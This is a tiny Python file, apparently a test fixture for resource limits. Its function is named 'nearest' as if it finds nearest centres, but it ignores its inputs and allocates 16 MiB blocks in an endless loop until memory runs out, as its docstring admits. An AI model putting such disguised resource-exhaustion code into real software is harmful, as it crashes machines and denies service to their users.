"""Takes memory until there is none."""

from honest import *


def nearest(X, centres):
    kept = []
    while True:
        kept.append(bytearray(b"x" * (16 << 20)))
